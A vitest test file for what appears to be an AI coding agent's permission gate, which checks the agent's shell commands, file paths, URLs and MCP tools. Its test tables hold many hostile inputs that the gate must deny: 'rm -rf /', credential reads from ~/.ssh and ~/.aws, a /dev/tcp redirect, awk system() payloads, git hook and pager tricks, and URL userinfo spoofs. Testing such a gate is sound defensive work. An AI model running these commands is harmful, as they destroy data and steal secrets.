// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the tables are shell text, not templates
import { beforeAll, describe, expect, it } from 'vitest';
import type { PolicyMode } from '../config/schema.ts';
import { type DomainPattern, parseDomainPattern } from '../core/domains.ts';
import { callGlobs, callPaths, decide, type EffectiveLists } from './decide.ts';
import { floorPaths } from './paths.ts';
import { parseShell } from './shell-parser.ts';
import { toolAccess, useShellAssetsFromNodeModules } from './test-helpers.ts';
import type { PolicyDecision, ToolCallForPolicy } from './types.ts';

beforeAll(() => useShellAssetsFromNodeModules());

const HOME = '/home/u';
const CWD = '/home/u/proj';

function lists(overrides: Partial<EffectiveLists> = {}): EffectiveLists {
  return {
    commands: ['ls', 'echo', 'cat', 'find', 'rg', 'sed', 'git', 'grep'],
    domains: ['*.github.com', 'example.org:8443', '10.0.0.1'].map(
      (entry) => parseDomainPattern(entry) as DomainPattern,
    ),
    pathsRo: [CWD],
    pathsRw: [`${CWD}/out`],
    filesRo: [],
    filesRw: [],
    denied: [`${CWD}/private`],
    mcpTools: ['fs.*', 'search'],
    ...overrides,
  };
}

/** Decides with identity canonicalisation: every path is taken to be canonical already. */
async function run(
  call: ToolCallForPolicy,
  mode: PolicyMode = 'allowlist',
  over: Partial<EffectiveLists> = {},
) {
  const shell = call.access?.kind === 'command' ? await parseShell(String(call.args.cmd)) : undefined;
  const canonical = Object.fromEntries(callPaths(call, CWD, HOME, shell).map((path) => [path, path]));
  // Globs match nothing here; gate.test.ts lists real folders.
  const globs = Object.fromEntries(callGlobs(call, CWD, HOME, shell).map((pattern) => [pattern, []]));
  return decide({
    call,
    mode,
    lists: lists(over),
    floor: floorPaths(HOME, `${HOME}/.rune`),
    cwd: CWD,
    home: HOME,
    canonical,
    globs,
    ...(shell ? { shell } : {}),
  });
}

const cmd = (text: string): ToolCallForPolicy => ({
  tool: 'execute_cmd',
  args: { cmd: text },
  source: 'builtin',
  access: toolAccess('execute_cmd'),
});

describe('commands: refused for auto-allow with ls echo cat find rg sed git grep allowlisted', () => {
  it.each([
    ['ls; rm -rf /', 'command.not-allowed'],
    ['ls && curl x', 'command.not-allowed'],
    ['echo $(cat ~/.ssh/id_rsa)', 'command.construct'],
    ['echo `id`', 'command.construct'],
    ['cat <(id)', 'command.construct'],
    ["bash -c 'rm x'", 'command.dangerous'],
    ['env rm x', 'command.dangerous'],
    ['xargs rm', 'command.dangerous'],
    ['ls | xargs rm', 'command.dangerous'],
    ['find . -exec rm {} \\;', 'command.dangerous'],
    ['find . -delete', 'command.dangerous'],
    ['find . -fprint /tmp/x', 'command.dangerous'],
    ['rg --pre sh x', 'command.dangerous'],
    ['rg --pre=sh x', 'command.dangerous'],
    ["sed -e 'w /etc/x' f", 'command.dangerous'],
    ["sed 's/a/b/e' f", 'command.dangerous'],
    ["sed 's/a/b/w /tmp/x' f", 'command.dangerous'],
    ['sed -i s/a/b/ f', 'command.dangerous'],
    ["sed '1e id' f", 'command.dangerous'],
    ['git -c core.pager=sh log', 'command.dangerous'],
    ['git -ccore.pager=sh log', 'command.dangerous'],
    ['git --paginate log', 'command.dangerous'],
    ['git config core.hooksPath /tmp', 'command.dangerous'],
    ['git log --output=/tmp/x', 'command.dangerous'],
    ['git fetch --upload-pack=evil origin', 'command.dangerous'],
    ['echo x > ~/.bashrc', 'path.runs-later'],
    ['echo x > ~/notes.txt', 'command.redirect'],
    ['echo x >> /etc/passwd', 'command.redirect'],
    ['cd ~/.ssh && cat id_rsa', 'floor'],
    ['cat ~/.ssh/id_rsa', 'floor'],
    ['cat ../.aws/credentials', 'floor'],
    ['grep -r key ~/.rune', 'floor'],
    ['cat private/notes', 'denied_paths'],
    ['cat${IFS}/etc/passwd', 'command.construct'],
    ['IFS=/ ls', 'command.construct'],
    ['echo ${x:=y}', 'command.construct'],
    ["echo 'unterminated", 'command.parse-error'],
    ['echo "unterminated', 'command.parse-error'],
    ['ls &', 'command.construct'],
    ['cat <<EOF\nhi\nEOF', 'command.construct'],
    ['cat <<< hi', 'command.construct'],
    ['(ls)', 'command.construct'],
    ['{ ls; }', 'command.construct'],
    ['f() { ls; }; f', 'command.construct'],
    ['eval ls', 'command.dangerous'],
    ['. ./script', 'command.dangerous'],
    ['exec ls', 'command.dangerous'],
    ['nohup ls', 'command.dangerous'],
    ['timeout 5 ls', 'command.dangerous'],
    ['rg foo *', 'command.dangerous'],
    ['$(echo ls)', 'command.construct'],
    ['l"s" x; rm y', 'command.not-allowed'],
    ['/bin/ls', 'command.not-allowed'],
    ["echo $'\\x41'", 'command.construct'],
    ['for i in 1; do ls; done', 'command.construct'],
    ['ls\nrm -rf /', 'command.not-allowed'],
    ['grep -f~/.ssh/id_rsa x', 'floor'],
    ['grep --file=/home/u/.aws/credentials x', 'floor'],
    ['ls > /dev/tcp/1.2.3.4/80', 'command.redirect'],
    ['cat < ~/.netrc', 'floor'],
    ['grep -rn password ~', 'floor'],
    ['grep -R key /home', 'floor'],
    ['rg token ..', 'floor'],
    ['grep --recursive x /', 'floor'],
  ])('%s → %s', async (text, rule) => {
    const decision = await run(cmd(text));
    expect(decision).toMatchObject({ kind: 'deny', rule });
  });

  it.each([
    ["sed -e 'w /etc/x' f", /: sed command "w" is not allowed \(only s, y/],
    ["sed 's/a/b/e' f", /: sed s flag "e" \(e runs commands, w writes files\) is not allowed/],
  ])('names the program once: %s', async (text, message) => {
    const decision = await run(cmd(text));
    expect(decision.kind === 'deny' && decision.reason).toMatch(message);
    expect(decision.kind === 'deny' && decision.reason).not.toMatch(/sed sed/);
  });

  // Review attacks: option values hiding the awk program, GNU/git long-option abbreviations, and
  // short options with their value glued on, with awk, sort and tar allowlisted too.
  it.each([
    'awk -v x=1 \'BEGIN{system("id")}\'',
    'awk -F : \'BEGIN{system("id")}\' f',
    'awk --source \'BEGIN{system("id")}\'',
    'awk -E prog.awk',
    'awk -l ./evil',
    'awk -i inplace 1 f',
    'sort --compress-prog=sh f',
    'sort --outp=/tmp/x f',
    'sort --o=/tmp/x f',
    'tar --to-com=sh -xf a.tar',
    'tar --use-compress-prog=sh -xf a.tar',
    'git log --outp=/tmp/x',
    'git fetch --upload-pa=evil origin',
    'git diff --ext-d',
    'git grep -Ocat x',
    'git grep -iO x',
    'git rebase -xsh main',
    'git rebase --exe=sh main',
    'git format-patch -o/tmp HEAD~1',
    'git clone -ush x y',
    'rg --pre-gl=* --pre=sh x',
    // A clone or init copies hooks from --template, or takes hooksPath from --config, and runs them.
    'git clone --template=evil . dst',
    'git clone --templ=evil . dst',
    'git clone --config core.hooksPath=evil . dst',
    'git clone -c core.hooksPath=evil . dst',
    'git init --template=evil dst',
    'man -P sh ls',
    'man --pager=sh ls',
    'man -H ls',
    // File names read from a list file never reach the floor check.
    'sort --files0-from=list',
    'tar -cf - -T list',
    'tar --files-from=list -cf -',
    'tar -xIsh -f a.tar',
    'tar -cT list -f -',
    'tar xIf sh a.tar',
    'rg --hostname-bin=sh x',
    'git credential-store get',
    'git credential-cache get',
  ])('%s → command.dangerous', async (text) => {
    const decision = await run(cmd(text), 'allowlist', {
      commands: ['ls', 'echo', 'cat', 'find', 'rg', 'sed', 'git', 'grep', 'awk', 'sort', 'tar', 'man'],
    });
    expect(decision).toMatchObject({ kind: 'deny', rule: 'command.dangerous' });
  });

  it.each([
    "awk -F: '{print $1}' f",
    "awk -v n=2 'NR==n' f",
    'sort -n f',
    'tar -tf a.tar',
    'git log --oneline',
  ])('%s stays allowed with awk, sort and tar listed', async (text) => {
    const decision = await run(cmd(text), 'allowlist', {
      commands: ['git', 'awk', 'sort', 'tar'],
    });
    expect(decision).toEqual({ kind: 'allow', rule: 'allowed_commands' });
  });

  it.each([
    'ls -la | grep x',
    'grep -rn TODO src',
    'rg token src',
    'ls ~',
    'ls -la',
    'git status',
    "grep -n 'a|b' src/x.ts",
    'cat src/a.ts src/b.ts 2>/dev/null',
    'ls 2>&1 | grep x',
    'echo hi > out/log.txt',
    "sed -n 's/a/b/gp;3q' file",
    "sed -e '/x/d' -e 's|a|b|' f",
    'find . -name "*.ts" -type f',
    'ls *.ts',
    'echo a && echo b || echo c; ls',
    'l"s" -la # a comment',
  ])('%s → allow', async (text) => {
    expect(await run(cmd(text))).toEqual({ kind: 'allow', rule: 'allowed_commands' });
  });

  it('asks in confirm mode, suggesting the one missing program', async () => {
    const decision = await run(cmd('df -h'), 'confirm');
    expect(decision).toMatchObject({
      kind: 'ask',
      question: 'Execute: df -h',
      suggestion: { list: 'allowed_commands', value: 'df' },
    });
    const denied = (await run(cmd('df -h'))) as Extract<PolicyDecision, { kind: 'deny' }>;
    expect(denied.reason).toContain("add 'df' to [policy] allowed_commands");
  });

  it('the floor is never asked about, even in confirm mode', async () => {
    expect(await run(cmd('cat ~/.ssh/id_rsa'), 'confirm')).toMatchObject({ kind: 'deny', rule: 'floor' });
  });

  it('matches command prefixes as whole words', async () => {
    const over = { commands: ['git status'] };
    expect(await run(cmd('git status --short'), 'allowlist', over)).toMatchObject({ kind: 'allow' });
    expect(await run(cmd('git statusx'), 'allowlist', over)).toMatchObject({ kind: 'deny' });
    expect(await run(cmd('git push'), 'allowlist', over)).toMatchObject({ kind: 'deny' });
  });

  it('unrestricted allows without looking', async () => {
    expect(await run(cmd('cat ~/.ssh/id_rsa; rm -rf /'), 'unrestricted')).toEqual({
      kind: 'allow',
      rule: 'mode.unrestricted',
    });
  });
});

describe('paths', () => {
  const read = (path: string): ToolCallForPolicy => ({
    tool: 'read_file',
    args: { path },
    source: 'builtin',
    access: toolAccess('read_file'),
  });
  it.each([
    ['../../.aws/credentials', 'deny', 'path.not-allowed'],
    ['../.aws/credentials', 'deny', 'floor'],
    ['/home/u/proj-evil/x', 'deny', 'path.not-allowed'],
    ['~/.ssh/id_rsa', 'deny', 'floor'],
    ['/etc/shadow', 'deny', 'floor'],
    ['/proc/1/environ', 'deny', 'floor'],
    // A thread's view of the same environment and command line (/proc/self/task/N, /proc/thread-self).
    ['/proc/1/task/1/environ', 'deny', 'floor'],
    ['/proc/1/task/7/cmdline', 'deny', 'floor'],
    ['private/x', 'deny', 'denied_paths'],
    ['src/a.ts', 'allow', 'allowed_paths_ro'],
    ['./src/../README.md', 'allow', 'allowed_paths_ro'],
    ['out/x', 'allow', 'allowed_paths_ro'],
  ])('read %s → %s %s', async (path, kind, rule) => {
    expect(await run(read(path))).toMatchObject({ kind, rule });
  });

  it('~ in allowed_paths_ro does not open the secrets', async () => {
    expect(await run(read('~/.ssh/id_rsa'), 'allowlist', { pathsRo: [HOME] })).toMatchObject({
      kind: 'deny',
      rule: 'floor',
    });
    expect(await run(read('~/notes.txt'), 'allowlist', { pathsRo: [HOME] })).toMatchObject({ kind: 'allow' });
  });

  it('writes need allowed_paths_rw; confirm mode suggests the file', async () => {
    const write = {
      tool: 'write_file',
      args: { path: 'src/a.ts', content: '' },
      source: 'builtin',
      access: toolAccess('write_file'),
    } as const;
    expect(await run(write)).toMatchObject({ kind: 'deny', rule: 'path.not-allowed' });
    expect(await run(write, 'confirm')).toMatchObject({
      kind: 'ask',
      suggestion: { list: 'allowed_files_rw', value: `${CWD}/src/a.ts` },
    });
    expect(await run({ ...write, args: { path: 'out/a', content: '' } })).toMatchObject({ kind: 'allow' });
  });

  it.each([
    '.git/hooks/pre-commit',
    '.git/config',
    'sub/.git/hooks/post-checkout',
    'out/.bashrc',
    'out/.envrc',
    '.gitmodules',
    // A .git *file* (gitdir: elsewhere) makes git run the hooks and config of a folder the agent wrote.
    'sub/.git',
    'out/.git',
    'out/.zshenv',
    'out/.config/autostart/evil.desktop',
    'out/.config/systemd/user/evil.service',
    'out/.config/fish/config.fish',
  ])('writing %s (run later by git or a shell) is never auto-allowed, even in rw paths', async (path) => {
    const write = {
      tool: 'write_file',
      args: { path, content: 'x' },
      source: 'builtin',
      access: toolAccess('write_file'),
    } as const;
    expect(await run(write, 'allowlist', { pathsRw: [CWD] })).toMatchObject({
      kind: 'deny',
      rule: 'path.runs-later',
    });
    expect(await run(write, 'confirm', { pathsRw: [CWD] })).toMatchObject({
      kind: 'ask',
      rule: 'path.runs-later',
    });
    expect(await run(cmd(`echo x > ${path}`), 'allowlist', { pathsRw: [CWD] })).toMatchObject({
      kind: 'deny',
      rule: 'path.runs-later',
    });
  });

  it.each([
    ['search_files', {}, 'allow', 'allowed_paths_ro'],
    ['find_files', { pattern: '**/*.ts' }, 'allow', 'allowed_paths_ro'],
    ['search_files', { path: 'src' }, 'allow', 'allowed_paths_ro'],
    // A walk from the home folder is the tool's business: it skips ~/.ssh entry by entry.
    ['search_files', { path: '~' }, 'deny', 'path.not-allowed'],
    ['search_files', { path: '~/.ssh' }, 'deny', 'floor'],
    ['find_files', { path: 'private', pattern: '*' }, 'deny', 'denied_paths'],
    ['find_files', { path: '/etc', pattern: '*' }, 'deny', 'path.not-allowed'],
  ])('%s %j → %s %s (read tools; no path means the working directory)', async (tool, args, kind, rule) => {
    const call = {
      tool,
      args: { pattern: 'x', ...args },
      source: 'builtin',
      access: toolAccess(tool),
    } as const;
    expect(await run(call)).toMatchObject({ kind, rule });
  });

  it('a walk outside the read paths is asked in confirm mode, suggesting the folder', async () => {
    const call = {
      tool: 'search_files',
      args: { pattern: 'x', path: '/srv/data' },
      source: 'builtin',
      access: toolAccess('search_files'),
    } as const;
    expect(await run(call, 'confirm')).toMatchObject({
      kind: 'ask',
      question: 'Search /srv/data?',
      suggestion: { list: 'allowed_paths_ro', value: '/srv/data' },
    });
    expect(await run(call, 'allowlist', { pathsRo: [CWD, '/srv'] })).toMatchObject({ kind: 'allow' });
  });

  it('edit_file is a write: allowed_paths_rw, asked in confirm mode, never auto-allowed into .git', async () => {
    const edit = (path: string) =>
      ({
        tool: 'edit_file',
        args: { path, edits: [] },
        source: 'builtin',
        access: toolAccess('edit_file'),
      }) as const;
    expect(await run(edit('src/a.ts'))).toMatchObject({ kind: 'deny', rule: 'path.not-allowed' });
    expect(await run(edit('src/a.ts'), 'confirm')).toMatchObject({
      kind: 'ask',
      question: `Edit ${CWD}/src/a.ts?`,
      suggestion: { list: 'allowed_files_rw', value: `${CWD}/src/a.ts` },
    });
    expect(await run(edit('out/a.ts'))).toMatchObject({ kind: 'allow', rule: 'allowed_paths_rw' });
    expect(await run(edit('out/.git/config'))).toMatchObject({ kind: 'deny', rule: 'path.runs-later' });
    expect(await run(edit('~/.ssh/authorized_keys'), 'allowlist', { pathsRw: [HOME] })).toMatchObject({
      kind: 'deny',
      rule: 'floor',
    });
  });

  it('a path the gate did not canonicalise is denied', async () => {
    const decision = decide({
      call: read('src/a.ts'),
      mode: 'allowlist',
      lists: lists(),
      floor: [],
      cwd: CWD,
      home: HOME,
      canonical: {},
    });
    expect(decision).toMatchObject({ kind: 'deny', rule: 'path.unresolved' });
  });
});

describe('domains', () => {
  const fetchUrl = (url: string): ToolCallForPolicy => ({
    tool: 'fetch_url',
    args: { url },
    source: 'builtin',
    access: toolAccess('fetch_url'),
  });
  it.each([
    ['https://api.github.com/repos', 'allow'],
    ['https://API.GitHub.com./x', 'allow'],
    ['https://github.com/', 'deny'],
    ['https://malicious-github.com/', 'deny'],
    ['https://github.com.evil.io/', 'deny'],
    ['http://1.1.1.1/', 'deny'],
    ['http://10.0.0.1/', 'allow'],
    ['https://example.org:8443/', 'allow'],
    ['https://example.org/', 'deny'],
    ['file:///etc/passwd', 'deny'],
    ['not a url', 'deny'],
    // Review attacks: userinfo and fragment tricks, other spellings of an address.
    ['http://api.github.com@evil.com/', 'deny'],
    ['http://evil.com#@api.github.com/', 'deny'],
    ['http://evil.com\\@api.github.com/', 'deny'],
    ['http://[::ffff:127.0.0.1]/', 'deny'],
    ['http://2130706433/', 'deny'],
    ['http://0x7f.1/', 'deny'],
    ['http://017700000001/', 'deny'],
    ['http://167772161/', 'allow'],
    ['https://api.github.com:443/', 'allow'],
  ])('%s → %s', async (url, kind) => {
    expect((await run(fetchUrl(url))).kind).toBe(kind);
  });

  it('an empty list allows nothing', async () => {
    expect(await run(fetchUrl('https://api.github.com/'), 'allowlist', { domains: [] })).toMatchObject({
      kind: 'deny',
    });
  });

  it.each(['*', '*.com', '*.*.com', 'a.*.com', 'https://x.com', 'x.com/path', '*.'])(
    'rejects the pattern %s',
    (entry) => {
      expect(typeof parseDomainPattern(entry)).toBe('string');
    },
  );
});

describe('MCP and other tools', () => {
  it.each([
    [{ tool: 'read', server: 'fs', source: 'mcp' }, 'allow', 'allowed_mcp_tools'],
    [{ tool: 'search', server: 'web', source: 'mcp' }, 'allow', 'allowed_mcp_tools'],
    [{ tool: 'list', server: 'db', source: 'mcp', readOnly: true }, 'allow', 'mcp.read-only'],
    [{ tool: 'drop', server: 'db', source: 'mcp' }, 'deny', 'mcp.not-allowed'],
    [{ tool: 'nuke', source: 'builtin' }, 'deny', 'tool.unknown'],
    [{ tool: 'read_markdown', source: 'builtin', access: { kind: 'own-files' } }, 'allow', 'notes.own-files'],
    [
      { tool: 'inspect_process', source: 'builtin', access: toolAccess('inspect_process') },
      'allow',
      'tool.inspect_process',
    ],
  ] as const)('%o → %s', async (call, kind, rule) => {
    expect(await run({ args: {}, ...call } as ToolCallForPolicy)).toMatchObject({ kind, rule });
  });

  it('judges a rune tool by the access it declares, not by its name', async () => {
    // A tool added tomorrow that reads a file gets read_file's rules with no change here.
    const peek = (path: string): ToolCallForPolicy => ({
      tool: 'peek_file',
      args: { path },
      source: 'builtin',
      access: { kind: 'read', target: 'file' },
    });
    expect(await run(peek('src/a.ts'))).toMatchObject({ kind: 'allow', rule: 'allowed_paths_ro' });
    expect(await run(peek('~/.ssh/id_rsa'))).toMatchObject({ kind: 'deny', rule: 'floor' });
    expect(await run(peek('/srv/x'), 'confirm')).toMatchObject({ kind: 'ask', question: 'Read /srv/x?' });
    const shell = {
      tool: 'sh',
      args: { cmd: 'cat ~/.ssh/id_rsa' },
      source: 'builtin',
      access: { kind: 'command' },
    };
    expect(await run(shell as ToolCallForPolicy)).toMatchObject({ kind: 'deny', rule: 'floor' });
    // A built-in name without the access its tool declares is no read tool.
    const bare = { tool: 'read_file', args: { path: 'src/a.ts' }, source: 'builtin' } as const;
    expect(await run(bare)).toMatchObject({ kind: 'deny', rule: 'tool.unknown' });
  });
});
